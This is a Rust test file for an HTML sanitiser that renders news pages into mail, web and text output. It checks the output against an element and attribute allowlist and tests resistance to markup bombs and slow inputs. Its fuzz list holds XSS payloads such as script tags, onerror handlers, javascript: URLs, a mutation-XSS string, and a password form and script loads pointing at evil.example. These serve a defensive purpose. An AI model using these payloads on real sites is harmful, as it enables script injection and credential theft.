//! Markup that means harm, or means nothing at all: only the tree is rendered, so none of it can
//! come out again (R4, E8).

use std::time::{Duration, Instant};

use dom_query::Document as Page;
use gazette_templates::{
    Document,
    document::{html, text as text_part},
};
use proptest::prelude::*;
use url::Url;

use super::{fragment, page, text};
use crate::releases::cost_ratio::Stopwatch;

/// What the renderings write, and what each may carry.
const ELEMENTS: &[(&str, &[&str])] = &[
    ("p", &["class"]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("blockquote", &["class"]),
    ("ul", &[]),
    ("ol", &["start", "type", "reversed"]),
    ("li", &[]),
    // A button in a mail stands in a table of its own.
    ("table", &["role"]),
    ("caption", &[]),
    ("thead", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("th", &["scope"]),
    ("td", &["class"]),
    // A table that scrolls on the web, and what is in another language.
    (
        "div",
        &["lang", "dir", "class", "role", "tabindex", "aria-label"],
    ),
    ("span", &["lang", "dir"]),
    ("dl", &[]),
    ("dt", &[]),
    ("dd", &[]),
    ("sup", &[]),
    ("sub", &[]),
    ("s", &[]),
    ("del", &[]),
    ("ins", &[]),
    ("code", &[]),
    ("kbd", &[]),
    ("abbr", &["title"]),
    ("figure", &[]),
    ("figcaption", &[]),
    ("img", &["src", "alt", "width", "height"]),
    ("a", &["href"]),
    ("strong", &[]),
    ("em", &[]),
    ("br", &[]),
    ("pre", &[]),
];

fn is_harmless(markup: &str) {
    let page = Page::from(format!("<body>{markup}</body>"));
    let body = page.body().unwrap();
    for node in body.descendants_it().filter(dom_query::NodeRef::is_element) {
        let name = node.node_name().unwrap();
        let (_, allowed) = ELEMENTS
            .iter()
            .find(|(known, _)| *known == &*name)
            .unwrap_or_else(|| panic!("<{name}> in {markup}"));
        for attribute in node.attrs() {
            let attribute_name = &*attribute.name.local;
            assert!(
                attribute_name == "style" || allowed.contains(&attribute_name),
                "{attribute_name} in {markup}"
            );
            match attribute_name {
                "href" | "src" => {
                    let url = Url::parse(&attribute.value).unwrap();
                    assert!(
                        matches!(url.scheme(), "http" | "https" | "mailto" | "tel"),
                        "{url}"
                    );
                }
                // Classes and styles are ours, whatever the source had.
                "class" => {
                    let ours = ["scroll", "bar", "muted", "line", "go"];
                    assert!(ours.contains(&&*attribute.value), "{markup}");
                }
                "style" => assert!(
                    !attribute.value.contains("url(") && !attribute.value.contains("expression"),
                    "{markup}"
                ),
                _ => {}
            }
        }
    }
}

fn renders_harmlessly(document: &Document) {
    for block in html::mail_blocks(document, "#1d4f91") {
        is_harmless(&block.0);
    }
    is_harmless(&html::web(document).0);
    let text = text_part::render(document);
    assert!(
        !text
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t')
    );
}

const PIECES: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)' srcset='javascript:alert(2) 2x'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></table></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>here</a>",
    "<a href=' java\nscript:alert(1)'>run</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<a href='//evil.example' onclick=steal() style='position:fixed'>all of it</a>",
    "<a href='https://doe.example@evil.example/'>the office</a>",
    "<form action='https://evil.example/'><input name=password><button>Send</button>",
    "<iframe srcdoc='<script>alert(1)</script>' src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'><embed src='data:text/html,x'>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<p style='background:url(javascript:alert(1))' onmouseover=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><title></title><plaintext",
    "<template><script>alert(1)</script></template>",
    "<p lang='\"><script>alert(1)</script>' dir='\"onload='>Text",
    "<ol start='1\" onload=alert(1)' type='\"><script>'><li value='9e9'>One",
    "<table><td colspan=99999999 rowspan=99999999>Cell",
    "<video poster='javascript:alert(1)'><source src='javascript:alert(1)'></video>",
    "<p>The county opens a second office on Main Street, and it stays open late.</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<blockquote>",
    "<ul><li>",
    "<figure><figcaption>",
    "<div xml:base='javascript:alert(1)' lang=ar>",
    "</div></p></td></table></blockquote>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<",
    "\"'>",
    "\0\u{7}\u{202e}",
];

fn markup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        5 => prop::sample::select(PIECES).prop_map(str::to_owned),
        1 => "\\PC{0,12}",
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn nothing_hostile_comes_out_again(markup in markup()) {
        let address = Url::parse("https://doe.example/news/").unwrap();
        renders_harmlessly(&page(&markup, Some(&address)).document);
        renders_harmlessly(&fragment(&markup, "Title", "en", Some(&address)));
        renders_harmlessly(&text(&markup).document);
    }
}

/// What reading `source` makes, counted: bytes that the parser is given, elements and texts of the
/// tree, bytes of the document and of its two renderings.
fn work(source: &str) -> [usize; 3] {
    let markup = super::budget::within_budget(source).html;
    let tree = Page::from(markup.as_str());
    let document = page(source, None).document;
    let written = serde_json::to_string(&document).unwrap().len()
        + html::web(&document).0.len()
        + text_part::render(&document).len();
    [markup.len(), tree.root().descendants_it().count(), written]
}

#[test]
fn no_markup_makes_more_of_itself_than_its_length_allows() {
    let attributes: Vec<String> = (0..4_000).map(|n| format!(" a{n}=b")).collect();
    let attributes = attributes.concat();
    for (piece, count) in [
        ("<div></x>", 8_000),
        ("<p><b>bold ", 4_000),
        ("<p><b id=1><i id=2><u id=3>x</p>", 2_000),
        ("<div><a href=/x>word</a>", 490),
        ("& ", 20_000),
        ("&amp", 10_000),
        ("<table><b>x", 2_000),
        (
            "<p>He said <a href=https://doe.example/x>this</a> and <a href=https://doe.example/y>that</a>.",
            2_000,
        ),
        ("<h3><a href=/x>word</a></h3><p>word", 2_000),
        (&format!("<p{attributes}>word</p>"), 4),
    ] {
        let once = work(&piece.repeat(count));
        let twice = work(&piece.repeat(2 * count));
        let given = piece.len() * count;
        assert!(once[0] <= given, "{piece}: {once:?} of {given}");
        // Formatting that is left open is opened again in each block, a dozen at most.
        assert!(once[1] <= 16 * count + 600, "{piece}: {once:?}");
        // A link is said as a number and once as its address, a paragraph has its styles.
        assert!(
            once[2] <= 60 * given + 4_000,
            "{piece}: {once:?} of {given}"
        );
        // Twice as much gives twice as much, not four times.
        for (one, two) in once.iter().zip(twice) {
            assert!(
                two <= 2 * one + one / 2 + 4_000,
                "{piece}: {once:?}, then {twice:?}"
            );
        }
    }
}

#[test]
fn megabytes_of_markup_take_no_longer_than_what_is_kept_of_them() {
    // Far from what it takes, and far from what it took: minutes, and gigabytes.
    const TEST_TIMEOUT_MS: f64 = 60_000.0;
    let attributes: Vec<String> = (0..80_000).map(|n| format!(" a{n}=b")).collect();
    let attributes = format!("<p{}>word</p>", attributes.concat());
    let nested = format!("{}deep", "<div><a href=/x>word</a>".repeat(490));
    for source in [
        "<div></x>".repeat(135_000),
        "<p><b>bold ".repeat(36_000),
        attributes,
        nested.repeat(20),
        "& ".repeat(500_000),
        "<p>A sentence of some words stands here, and it says nothing at all.</p>".repeat(40_000),
    ] {
        // By the processor's time, which a busy machine does not lengthen.
        let watch = Stopwatch::start();
        let reading = page(&source, None);
        let _ = text_part::render(&reading.document);
        let took_ms = watch.ms();
        assert!(took_ms < TEST_TIMEOUT_MS, "{took_ms} ms");
    }
}

#[test]
fn no_kind_of_line_that_is_looked_for_takes_long_to_read() {
    const TEST_TIMEOUT: Duration = Duration::from_mins(1);
    for piece in [
        "<div></x>",
        "<p><b class=x>word ",
        "<p><b id=1><i id=2><u id=3>x</p>",
        "<div><a href=/x>word</a>",
        "<table><b>x",
        "<svg><g>",
        "<p a b c d e f g h i j k l m n o p q r s t u v w x y z>x",
        "<h3><a href=/x>word</a></h3><p>word",
        "<li>Share<li>Print",
        "<h3>Related news</h3>",
        "<p>By Ann Poe</p><p>May 4, 2026</p>",
        "<template>",
        "<select><option>",
        "<noscript><p>word",
    ] {
        let started = Instant::now();
        let _ = page(&piece.repeat(1_500), None);
        assert!(
            started.elapsed() < TEST_TIMEOUT,
            "{piece}: {:?}",
            started.elapsed()
        );
    }
}

#[test]
fn no_markup_takes_long_to_read() {
    // Some ten times what all of these take; what else the machine does meanwhile does not count.
    const MOST_MS: f64 = 10_000.0;
    let watch = Stopwatch::start();
    for piece in [
        "<div>",
        "<b>",
        "<a href=x>",
        "<blockquote><ul><li>",
        "<table><tr><td>",
        "<p><font><i>",
        "<div lang=ar><p lang=en>",
        "<figure><figcaption>",
        "<span style='font-weight:bold'>x",
        "<h2>x",
        "here <a href=y>here</a> ",
        "###\n",
        "1. a\n  2. b\n",
        "&amp",
        "<!--",
    ] {
        let source = piece.repeat(3_000);
        for document in [page(&source, None).document, text(&source).document] {
            let _ = html::web(&document);
            let _ = text_part::render(&document);
        }
    }
    assert!(watch.ms() < MOST_MS, "{} ms", watch.ms());
}
